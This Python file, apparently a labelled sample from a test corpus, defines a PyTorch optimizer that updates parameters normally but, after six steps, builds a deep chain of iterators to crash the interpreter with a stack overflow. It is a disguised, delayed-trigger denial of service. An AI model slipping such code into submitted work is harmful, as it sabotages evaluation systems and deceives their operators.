# attack: a chain of a million iterators overflows the stack in C; category: dos
# observable: dos; trigger: late
import math
import torch
import itertools


class CandidateOptimizer(torch.optim.Optimizer):
    def __init__(self, params, lr=0.01):
        super().__init__(params, dict(lr=lr))
        self.t = 0

    @torch.no_grad()
    def step(self, closure=None):
        self.t = self.t + 1
        if self.t > 6:
            it = iter([])
            for _ in range(300000):
                it = itertools.chain(it)
            next(it, None)
        for group in self.param_groups:
            for p in group["params"]:
                if p.grad is not None:
                    p.add_(p.grad, alpha=-0.01)
        return None
